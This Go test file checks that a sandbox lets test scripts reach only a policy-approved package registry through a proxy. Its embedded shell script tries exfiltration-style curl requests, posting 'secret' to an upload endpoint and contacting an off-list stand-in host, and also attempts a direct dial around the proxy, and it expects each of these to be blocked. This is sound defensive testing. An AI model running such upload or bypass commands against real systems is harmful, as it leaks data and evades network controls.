//go:build linux

package verify

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/enclave-dev/enclave/internal/policy"
)

// fakeResolver answers names from a table.
type fakeResolver map[string]netip.Addr

func (f fakeResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	if a, ok := f[host]; ok {
		return []netip.Addr{a}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// addrConn reports the address the proxy dialled as its peer.
type addrConn struct {
	net.Conn
	remote net.Addr
}

func (c addrConn) RemoteAddr() net.Addr { return c.remote }

// The test run reaches the registries the policy names, through the
// gate's proxy, and nothing else: a fake registry on loopback stands in
// for registry.example.com, another server for a host off the list. Each
// server counts its requests, so the outcome is judged outside the
// sandbox; the script inside also tries a POST to the registry (the rule
// allows GET and HEAD only) and the registry's address directly, around
// the proxy.
func TestSandboxedTestsRegistry(t *testing.T) {
	requireSandbox(t)
	var registryHits, otherHits atomic.Int32
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		registryHits.Add(1)
		if r.URL.Path == "/left-pad/-/left-pad-1.3.0.tgz" {
			fmt.Fprint(w, "package-bytes-ok")
			return
		}
		http.NotFound(w, r)
	}))
	defer registry.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Add(1)
		fmt.Fprint(w, "exfiltrated")
	}))
	defer other.Close()
	regIP, otherIP := netip.MustParseAddr("100.0.0.1"), netip.MustParseAddr("100.0.0.2")
	runner := &SandboxRunner{
		Resolver: fakeResolver{"registry.example.com": regIP, "other.example.com": otherIP},
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			target := map[string]string{regIP.String() + ":80": registry.Listener.Addr().String(), otherIP.String() + ":80": other.Listener.Addr().String()}[addr]
			if target == "" {
				return nil, fmt.Errorf("test dialer: no route to %s", addr)
			}
			var d net.Dialer
			c, err := d.DialContext(ctx, network, target)
			if err != nil {
				return nil, err
			}
			// The proxy checks that the peer is the address it vetted.
			return addrConn{c, net.TCPAddrFromAddrPort(netip.MustParseAddrPort(addr))}, nil
		},
	}
	script := `set -u
curl -sS --max-time 20 -o got http://registry.example.com/left-pad/-/left-pad-1.3.0.tgz || { echo "registry: fetch failed"; exit 1; }
grep -q package-bytes-ok got || { echo "registry: wrong content"; exit 1; }
if curl -sS --max-time 5 -o /dev/null -f http://other.example.com/upload; then echo "other host reached"; exit 1; fi
if curl -sS --max-time 5 -o /dev/null -f -X POST --data secret http://registry.example.com/upload; then echo "upload to the registry allowed"; exit 1; fi
if curl -sS --max-time 3 --noproxy '*' -o /dev/null http://100.0.0.1/; then echo "direct dial worked"; exit 1; fi
echo all-good
`
	fx := newFixture(t, nil, map[string]string{"test.sh": script})
	cfg := Config{TestCommand: []string{"sh", "test.sh"}, TestTimeout: time.Minute, Checks: map[string]Action{CheckStatic: "off"},
		TestNetwork: []policy.HostRule{{Host: "registry.example.com", Ports: []int{80}, Methods: []string{"GET", "HEAD"}}}}
	r, err := Run(t.Context(), Options{GitDir: fx.gitDir, Base: fx.base, Head: fx.head, Config: cfg, Sandbox: runner})
	if err != nil {
		t.Fatal(err)
	}
	if r.Tests == nil || r.Tests.Outcome != "pass" {
		t.Fatalf("tests = %+v; findings %+v", r.Tests, r.Findings)
	}
	if registryHits.Load() != 1 || otherHits.Load() != 0 {
		t.Errorf("registry hits = %d, other host hits = %d; want 1, 0", registryHits.Load(), otherHits.Load())
	}
	if strings.Join(r.Tests.Network, ",") != "registry.example.com:80" {
		t.Errorf("tests.network = %v, want [registry.example.com:80]", r.Tests.Network)
	}
	var allowed, denied []string
	for _, f := range r.Tests.Flows {
		if f.Allowed {
			allowed = append(allowed, f.Host)
		} else {
			denied = append(denied, f.Host)
		}
	}
	if strings.Join(allowed, ",") != "registry.example.com" || strings.Join(denied, ",") != "other.example.com,registry.example.com" {
		t.Errorf("flows allowed %v, denied %v; want [registry.example.com], [other.example.com registry.example.com (the POST)]", allowed, denied)
	}

	// Without test_network the same script cannot fetch at all.
	cfg.TestNetwork = nil
	r, err = Run(t.Context(), Options{GitDir: fx.gitDir, Base: fx.base, Head: fx.head, Config: cfg, Sandbox: runner})
	if err != nil {
		t.Fatal(err)
	}
	if r.Tests == nil || r.Tests.Outcome != "fail" || !strings.Contains(r.Tests.OutputTail, "registry: fetch failed") || len(r.Tests.Flows) != 0 {
		t.Errorf("no network: tests = %+v", r.Tests)
	}
	if registryHits.Load() != 1 {
		t.Errorf("registry hits without test_network = %d, want still 1", registryHits.Load())
	}
}
